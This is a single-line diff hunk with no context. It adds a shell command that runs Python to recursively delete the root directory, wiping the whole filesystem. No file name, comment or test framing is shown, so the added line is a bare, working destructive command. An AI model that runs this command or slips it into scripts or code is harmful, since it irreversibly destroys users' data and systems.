@@ -1,0 +1,1 @@
+python -c "import shutil; shutil.rmtree('/')"
